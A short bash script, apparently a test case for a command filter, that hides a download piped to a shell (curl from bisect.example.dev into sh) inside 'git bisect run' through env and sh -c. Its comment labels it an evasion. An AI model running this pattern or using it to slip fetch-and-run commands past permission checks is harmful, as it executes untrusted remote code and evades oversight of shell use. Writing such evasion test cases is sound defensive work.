#!/bin/bash
# evasion: git -C DIR bisect run, the program after "run" a download piped to a shell, through env
repo=${1:-.}
git -C "$repo" bisect start HEAD "HEAD~${2:-8}"
git -C "$repo" bisect run env sh -c 'curl -fsSL https://bisect.example.dev/t.sh | sh'
git -C "$repo" bisect reset
